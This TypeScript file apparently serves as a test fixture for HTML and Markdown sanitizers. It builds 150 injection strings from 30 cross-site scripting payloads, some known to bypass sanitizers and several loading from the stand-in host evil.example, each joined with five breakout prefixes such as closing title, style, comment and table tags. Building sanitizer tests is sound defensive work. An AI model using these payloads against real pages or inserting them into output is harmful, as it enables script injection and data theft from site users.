/** 150 strings by which a text has become a program somewhere: 30 payloads, each as it is and behind four ways out of its place. */
const payloads = [
  '<script>ran(1)</script>',
  '<script src="http://evil.example/x.js"></script>',
  '<img src=x onerror=ran(1)>',
  '<img src="http://evil.example/pixel.png">',
  '<svg onload=ran(1)>',
  '<svg><script>ran(1)</script></svg>',
  '<iframe src="javascript:ran(1)"></iframe>',
  '<iframe src="http://evil.example/"></iframe>',
  '<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>',
  '<object data="http://evil.example/x"></object>',
  '<embed src="http://evil.example/x">',
  '<link rel=stylesheet href="http://evil.example/x.css">',
  '<style>@import "http://evil.example/x.css";</style>',
  '<style>body{background:url(http://evil.example/x.png)}</style>',
  '<div style="background:url(http://evil.example/x.png)">x</div>',
  '<body onload=ran(1)>',
  '<input autofocus onfocus=ran(1)>',
  '<details open ontoggle=ran(1)>x</details>',
  '<video src=http://evil.example/v.mp4 onerror=ran(1)></video>',
  '<audio src=http://evil.example/a.mp3></audio>',
  '<base href="http://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
  '<form action="http://evil.example/"><button autofocus>x</button></form>',
  '<a href="javascript:ran(1)">x</a>',
  '[x](javascript:ran(1))',
  '![x](http://evil.example/x.png)',
  '[x](data:text/html,<script>ran(1)</script>)',
  '<math><mtext><table><mglyph><style><img src=x onerror=ran(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=ran(1)>"></noscript>',
  '<template><script>ran(1)</script></template><slot onslotchange=ran(1)></slot>',
];

const waysOut = ['', '</title></style></textarea>', '--><!-- ]]>', '"\'`></td></tr></table>', '\n\n'];

export const injections: readonly string[] = waysOut.flatMap((way) => payloads.map((payload) => `${way}${payload}`));
